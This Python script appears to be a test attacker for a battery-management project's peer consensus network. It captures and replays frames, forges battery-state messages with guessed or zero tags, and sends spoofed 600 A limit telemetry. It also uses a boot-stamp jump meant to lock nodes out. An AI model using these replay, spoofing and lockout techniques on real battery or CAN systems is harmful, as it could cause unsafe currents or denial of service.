"""An attacker on the peer network of a system (issue 15): a process of its own on the same python-can
``udp_multicast`` bus or UDP group as the real nodes, WITHOUT the system's key.

    attacker.py capture SYSTEM SENDER SECONDS OUT   record every frame of one member (replay material)
    attacker.py attack SYSTEM [--replay OUT] [--udp-boot-jump ID]   then print one JSON summary line
    attacker.py replay SYSTEM OUT PERIOD_S   only the captured frames again, one message per PERIOD_S
                                             (paced like the live sender, so it looks alive)

``attack`` sends, in this order: the captured frames again (a replay of a killed node), messages of
a fake member 3 announcing CLOSED with huge limits and a tiny resistance (guessed tags and zero
tags), 0 A proposals and a boot jump to 65535 in the name of live member 1 (guessed tags), grants
to every ticket in the name of members 2 and 3, and a forged LIMITS telemetry batch of node 1
saying 600 A with a guessed authentication frame. Messages are made by the core's own peer running
without keys (what an attacker that knows the format can build), then given random or zero tags.
"""

from __future__ import annotations

import json
import os
import struct
import sys
import time
from typing import Any

import can
import msgpack

from mbms import _core
from mbms.config_views import load_system
from mbms.consensus import segment_classic
from mbms.telemetry import AUTH_BASE_ID, LIMITS_BASE_ID, load_database


def _bus(system: Any) -> can.BusABC:
    c = system.transport.can
    return can.Bus(interface="udp_multicast", channel=c.channel, port=c.port, receive_own_messages=False)


def capture(system_path: str, sender: int, seconds: float, out: str) -> None:
    system = load_system(system_path)
    bus = _bus(system)
    frames = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        m = bus.recv(timeout=0.05)
        if m is None or m.is_extended_id:
            continue
        aid = m.arbitration_id
        if 0x400 <= aid <= 0x7FF and ((aid >> 4) & 0x3F) + 1 == sender:
            frames.append([aid, bytes(m.data).hex()])
    bus.shutdown()
    with open(out, "w") as f:
        json.dump(frames, f)
    print(json.dumps({"captured": len(frames)}), flush=True)


def replay(system_path: str, capture_path: str, period_s: float) -> None:
    """The captured frames again, a message (its 3 frames, index 0..2 in the id) per period."""
    system = load_system(system_path)
    bus = _bus(system)
    with open(capture_path) as f:
        frames = json.load(f)
    sent = 0
    next_t = time.monotonic()
    for aid, hexdata in frames:
        if aid & 0x3 == 0:  # the first frame of a message: wait for its slot
            next_t += period_s
            time.sleep(max(0.0, next_t - time.monotonic()))
        bus.send(can.Message(arbitration_id=aid, data=bytes.fromhex(hexdata), is_extended_id=False))
        sent += 1
    bus.shutdown()
    print(json.dumps({"replayed_frames": sent}), flush=True)


def _forger(system: Any, node_id: int, boot: int) -> Any:
    """The core's peer with no key: it builds well-formed messages with zero tags."""
    return _core.ConsensusPeer(system.peer_config(node_id, boot), boot, None)


def _local(closed: bool, dcl_a: float, r_ohm: float) -> dict[str, Any]:
    return {"ocv_v": 355.0, "r_ohm": r_ohm, "soc": 0.6, "dcl_a": dcl_a, "ccl_a": dcl_a, "dcl_peak_a": dcl_a,
            "ccl_peak_a": dcl_a, "fault": False, "may_close": True, "v_string_v": 355.0, "v_bus_v": 355.0,
            "i_a": 0.0, "feedback": (closed, closed, False)}


def _guess(msg: bytes) -> bytes:
    return msg[:-4] + os.urandom(4)


def attack(system_path: str, replay: str | None, udp_boot_jump: int | None) -> None:
    system = load_system(system_path)
    sent = {"replayed_frames": 0, "forged": 0, "unauthenticated": 0, "telemetry_forged": 0, "udp_boot_jump": 0}
    messages: list[bytes] = []
    # a fake member 3 announcing CLOSED with 6 kA limits and a 0.1 mOhm resistance
    fake = _forger(system, 3, 65000)
    for k in range(30):
        messages += [bytes(m) for m in fake.tick(k * 100, _local(True, 6000.0, 0.0001))["messages"]]
    # 0 A proposals and a boot jump in the name of the live member 1
    zero = _forger(system, 1, 65535)
    for k in range(10):
        messages += [bytes(m) for m in zero.tick(k * 100, _local(False, 0.0, 0.05))["messages"]]
    # grants to any ticket in the name of members 2 and 3: peers that see member 1 request
    granters = [_forger(system, i, 60000 + i) for i in (2, 3)]
    asker = _forger(system, 1, 60001)
    for k in range(40):
        for m in asker.tick(k * 100, _local(False, 100.0, 0.05))["messages"]:
            for g in granters:
                g.on_message(k * 100, bytes(m))
        for g in granters:
            messages += [bytes(m) for m in g.tick(k * 100, _local(False, 100.0, 0.05))["messages"]]
    out: list[tuple[int, bytes]] = []
    for m in messages:
        for tagged, kind in ((_guess(m), "forged"), (m, "unauthenticated")):
            out += [(aid, bytes(d)) for aid, d in segment_classic(tagged)]
            sent[kind] += 1
    if system.transport.kind == "can":
        bus = _bus(system)
        if replay:
            with open(replay) as f:
                for aid, hexdata in json.load(f):
                    bus.send(can.Message(arbitration_id=aid, data=bytes.fromhex(hexdata), is_extended_id=False))
                    sent["replayed_frames"] += 1
                    time.sleep(0.0005)
        for aid, d in out:
            bus.send(can.Message(arbitration_id=aid, data=d, is_extended_id=False))
            time.sleep(0.0005)
        # forged telemetry of node 1: LIMITS saying 600 A, then a guessed authentication frame
        db = load_database()
        lim = db.get_message_by_frame_id(LIMITS_BASE_ID + 1)
        data = lim.encode({"Dcl": 600.0, "Ccl": 600.0, "SysDcl": 600.0, "SysCcl": 600.0})
        for k in range(20):
            bus.send(can.Message(arbitration_id=LIMITS_BASE_ID + 1, data=data, is_extended_id=False))
            auth = struct.pack("<HH", 65535, k) + os.urandom(4)
            bus.send(can.Message(arbitration_id=AUTH_BASE_ID + 1, data=auth, is_extended_id=False))
            sent["telemetry_forged"] += 1
            time.sleep(0.01)
        bus.shutdown()
    else:
        import socket

        u = system.transport.udp
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(u.interface))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
        target = (u.group, u.port)
        seq = 0
        for m in messages:
            src = m[0] % 64 + 1
            for tagged, kind in ((_guess(m), "forged"), (m, "unauthenticated")):
                seq += 1
                # a datagram header with a boot stamp of 2^62: once enough to lock the node out
                boot = 2 ** 62 if udp_boot_jump is not None and src == udp_boot_jump else 1
                sent["udp_boot_jump"] += boot > 1
                sock.sendto(msgpack.packb({"v": 1, "sys": system.system_id, "src": src, "boot": boot, "seq": seq,
                                           "k": "m", "d": tagged}), target)
                sent[kind] += 1
                time.sleep(0.002)
        sock.close()
    print(json.dumps(sent), flush=True)


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "capture":
        capture(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
    elif cmd == "replay":
        replay(sys.argv[2], sys.argv[3], float(sys.argv[4]))
    else:
        args = sys.argv[3:]
        rp = args[args.index("--replay") + 1] if "--replay" in args else None
        bj = int(args[args.index("--udp-boot-jump") + 1]) if "--udp-boot-jump" in args else None
        attack(sys.argv[2], rp, bj)
